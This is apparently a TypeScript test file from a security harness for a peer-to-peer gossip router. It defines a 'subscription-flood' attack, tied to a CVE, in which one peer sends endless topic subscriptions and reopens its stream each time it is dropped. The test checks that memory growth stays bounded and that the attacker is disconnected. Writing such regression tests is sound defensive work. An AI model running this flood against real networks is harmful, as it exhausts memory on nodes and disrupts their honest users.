import { setTimeout as pause } from 'node:timers/promises';
import { attackerAddress, MEGABYTE, megabytes } from '../arena.js';
import type { Attack } from '../attack.js';
import { rpc, subscription } from '../wire/gossip.js';
import { Protocols } from '../wire/peer.js';

const TOPICS = 1_000_000;
const TOPICS_PER_RPC = 5_000;
const GROWTH_LIMIT = 32 * MEGABYTE;
const OUT_LIMIT_MS = 5_000;

/** One peer subscribes to topics without end; each one costs memory in a router without limits. */
export const subscriptionFlood: Attack = {
  name: 'subscription-flood',
  source: 'CVE-2026-46679',
  limit: '+ ≤ 32 MB; attacker out in ≤ 5 s',
  honestBytes: 21_000_000,
  run: async (arena) => {
    let outAfterMs = Number.POSITIVE_INFINITY;
    let sent = 0;
    let streams = 1;
    const growth = await arena.growth(async () => {
      const { connection, yamux } = await arena.join(arena.peer(), attackerAddress(1));
      let stream = yamux.open(Protocols.gossip);
      const startedAt = performance.now();
      void connection.closed.then(() => {
        outAfterMs = performance.now() - startedAt;
      });
      while (sent < arena.count(TOPICS) && !connection.isClosed) {
        if (stream.destroyed) {
          // Thrown out of gossip only: it comes again.
          stream = yamux.open(Protocols.gossip);
          streams += 1;
          await pause(10);
        }
        const topics = Array.from({ length: TOPICS_PER_RPC }, (_, i) => subscription(`attack/${sent + i}`));
        const isWritten = await new Promise<boolean>((done) =>
          stream.write(rpc(...topics), (error) => done(!error)),
        );
        if (isWritten) sent += TOPICS_PER_RPC;
      }
      await Promise.race([connection.closed, pause(OUT_LIMIT_MS)]);
    });
    return {
      figure: `+ ${megabytes(growth)}, out after ${Math.round(outAfterMs)} ms and ${sent} topics in ${streams} streams`,
      ok: growth <= GROWTH_LIMIT && outAfterMs <= OUT_LIMIT_MS,
    };
  },
};
